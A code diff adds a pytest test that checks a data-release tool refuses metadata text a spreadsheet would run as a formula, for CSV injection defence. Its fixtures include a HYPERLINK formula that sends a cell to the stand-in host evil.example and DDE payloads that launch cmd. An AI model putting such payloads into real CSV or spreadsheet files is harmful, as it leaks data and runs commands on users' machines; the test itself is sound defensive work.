@@ -144,6 +144,30 @@ def test_a_nik_in_metadata_is_refused_by_its_key(tmp_path: Path, path: list[obje
     assert NIK not in str(e.value) and NIK[:6] not in str(e.value)
 
 
+@pytest.mark.parametrize(("path", "value", "where"), [
+    (["registers", 0, "sources", 0, "origin"], '=HYPERLINK("http://evil.example/?"&A1,"source")',
+     "registers/0/sources/0/origin"),
+    (["registers", 0, "sources", 0, "title"], "@SUM(1+1)", "registers/0/sources/0/title"),
+    (["registers", 0, "title"], "\t+cmd|' /C calc'!A0", "registers/0/title"),
+    (["description"], "-1+1+cmd|' /C calc'!A0", "description"),
+    (["registers", 0, "sources", 0, "origin"], "-5 ribu TPS, a note", None),  # a negative number is text: loads
+    (["registers", 0, "sources", 0, "origin"], "- a scrape of kawalpemilu.org", None),  # a dash and a space: text
+])
+def test_a_formula_in_metadata_is_refused_by_its_key(tmp_path: Path, path: list[object], value: str,
+                                                      where: str | None) -> None:
+    """The texts of metadata.yml reach the packages' CSV (``sources.csv``: a source's ``origin`` and ``title``): one
+    that a spreadsheet would run as a formula is refused naming its key, as a raw cell is quarantined (review CB
+    L2: ``origin: '=HYPERLINK(…)'`` was published)."""
+    target = write_metadata(tmp_path, with_change(path, value))
+    if where is None:
+        assert load_release(target)
+        return
+    with pytest.raises(ConfigError) as e:
+        load_release(target)
+    assert f"/metadata.yml: {where}: looks like a spreadsheet formula" in str(e.value)
+    assert e.value.hint == "reword it so that it starts with a letter, a digit or a quote"
+
+
 def test_an_absolute_source_path_is_refused(tmp_path: Path) -> None:
     """A source's path is published in every package's provenance: it is relative to the project, never a path of
     the machine that built it."""
